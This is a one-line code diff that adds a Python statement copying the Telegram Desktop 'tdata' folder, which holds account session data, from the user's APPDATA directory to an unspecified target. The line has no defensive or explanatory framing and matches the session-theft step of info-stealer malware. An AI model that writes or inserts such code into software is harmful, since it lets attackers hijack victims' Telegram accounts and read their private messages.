@@ -1,0 +1,1 @@
+shutil.copytree(os.environ["APPDATA"] + "\\Telegram Desktop\\tdata", target)
